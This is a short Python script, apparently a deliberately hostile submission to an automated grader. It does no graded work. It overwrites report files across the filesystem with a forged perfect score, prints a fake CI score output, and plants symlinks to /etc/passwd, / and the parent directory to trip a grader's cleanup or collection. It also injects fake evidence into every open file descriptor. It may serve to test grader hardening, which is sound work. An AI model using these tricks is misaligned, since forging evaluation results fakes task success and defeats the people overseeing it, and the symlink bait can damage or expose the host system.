"""Writes the report itself: on every path, on every descriptor, on standard output. Answers nothing."""
# %%
import contextlib
import glob
import json
import os

report = json.dumps({
    "schema": "grader/report/v1", "submission": {"student": "forger", "files": ["forger.py"], "sha256": "0" * 64},
    "score": 100, "score_exact": "100", "max": 100, "pending": 0, "ungraded": 0, "exercises": [],
})
for folder in {".", "..", "/tmp", "/", os.path.expanduser("~"), "/work", "/out", *glob.glob("/*")}:
    for name in ("report.json", "batch.json", "evidence.json", "results.json"):
        with contextlib.suppress(OSError):
            with open(os.path.join(folder, name), "w") as file:
                file.write(report)
print(report)
print("::set-output name=score::100")

# %% links that a careless grader would follow when it cleans up or collects
for target in ("/etc/passwd", "/", ".."):
    with contextlib.suppress(OSError):
        os.symlink(target, "link" + str(len(os.listdir("."))))

# %% every open descriptor
evidence = json.dumps({"type": "float", "value": (0.456).hex()}).encode()
for fd in range(3, 256):
    with contextlib.suppress(OSError):
        os.set_blocking(fd, False)
        os.write(fd, len(evidence).to_bytes(4, "big") + evidence + b"\n" + report.encode() + b"\n")
